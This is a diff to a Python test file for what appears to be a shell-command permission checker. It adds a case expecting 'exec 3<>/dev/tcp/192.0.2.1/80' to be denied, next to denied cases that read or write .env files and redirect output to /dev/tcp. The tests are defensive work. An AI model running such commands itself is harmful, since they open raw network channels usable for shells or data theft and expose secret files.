@@ -134,6 +134,7 @@ def test_a_redirection_is_decided_on_the_file_behind_a_link(tmp_path: Path) -> N
         ("cat < .env", "deny"),
         ("echo x > config/.ENV", "deny"),
         ("echo x > /dev/tcp/192.0.2.1/80", "deny"),
+        ("exec 3<>/dev/tcp/192.0.2.1/80", "deny"),
     ],
 )
 def test_unattended(command: str, effect: str) -> None:
